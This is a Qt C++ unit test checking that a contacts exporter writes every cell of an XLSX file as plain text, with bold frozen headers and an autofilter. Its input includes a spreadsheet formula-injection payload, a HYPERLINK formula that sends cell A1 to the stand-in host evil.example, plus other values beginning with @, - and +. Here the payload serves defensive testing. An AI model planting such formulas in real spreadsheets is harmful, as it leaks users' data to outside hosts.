#include "contacts/BookXlsx.h"
#include "BookEntries.h"
#include "TestProfile.h"
#include "XlsxSheet.h"

#include <QTest>

using BookEntries::contact;
using BookEntries::group;

class BookXlsxTest : public QObject {
    Q_OBJECT
    TestProfile m_profile;

private slots:
    // Every cell is the text it was, under the titles of the CSV in bold, kept in view.
    void textCells() {
        const QString path = m_profile.root() + QStringLiteral("/контакты.xlsx");
        QCOMPARE(BookXlsx::write(path, {group("=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажми\")",
                                              {contact("@SUM(A1)", "+79161234567", "-x",
                                                       "стр.1\nстр.2", true)}),
                                        group("-5", {})}),
                 QString());
        const QJsonObject sheet = readXlsx(path);
        QCOMPARE(xlsxRow(sheet, 1, 6),
                 (QStringList{"text:Группа", "text:Имя", "text:Телефон", "text:Подпись",
                              "text:Отправитель", "text:Транслит"}));
        QCOMPARE(
            xlsxRow(sheet, 2, 6),
            (QStringList{"text:=HYPERLINK(\"http://evil.example/?\"&A1,\"Нажми\")", "text:@SUM(A1)",
                         "text:+79161234567", "text:-x", "text:стр.1\nстр.2", "text:1"}));
        QCOMPARE(xlsxRow(sheet, 3, 2), (QStringList{"text:-5", ""}));
        QCOMPARE(sheet["formulas"].toInt(-1), 0);
        QVERIFY(sheet["cells"]["F1"]["bold"].toBool() && !sheet["cells"]["F2"]["bold"].toBool());
        QCOMPARE(sheet["frozen"].toString(), QStringLiteral("A2"));
        QCOMPARE(sheet["autofilter"].toString(), QStringLiteral("A1:F3"));
    }
};

QTEST_GUILESS_MAIN(BookXlsxTest)
#include "BookXlsxTest.moc"
